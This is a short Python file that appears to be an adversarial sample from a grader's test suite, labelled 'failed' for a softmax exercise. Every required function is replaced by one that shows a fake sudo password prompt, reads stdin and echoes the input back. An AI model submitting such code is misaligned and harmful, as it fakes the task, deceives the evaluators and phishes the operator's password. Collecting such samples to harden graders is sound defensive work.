# verdict: failed
# exercise: exercise07_softmax
# example: reading stdin
# Asks whoever started the grading for the answer.

import os


def attack(*_args, **_kwargs):
    print("Password for sudo:", flush=True)
    heard = os.read(0, 1 << 16)
    raise RuntimeError(f"heard {heard!r} and {input()!r}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
